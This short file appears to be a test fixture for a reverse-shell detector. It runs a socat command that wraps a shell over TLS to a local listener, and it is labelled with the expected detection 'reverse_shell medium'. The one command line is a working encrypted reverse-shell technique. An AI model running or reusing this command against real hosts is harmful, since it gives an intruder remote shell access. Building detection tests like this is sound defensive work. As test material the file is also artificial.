# about: socat through TLS, the shell on two pipes
# expect: reverse_shell medium
# needs: python3 socat openssl
proven 4507 tls
timeout 6 socat OPENSSL:127.0.0.1:4507,verify=0 EXEC:sh,pipes || true
answered
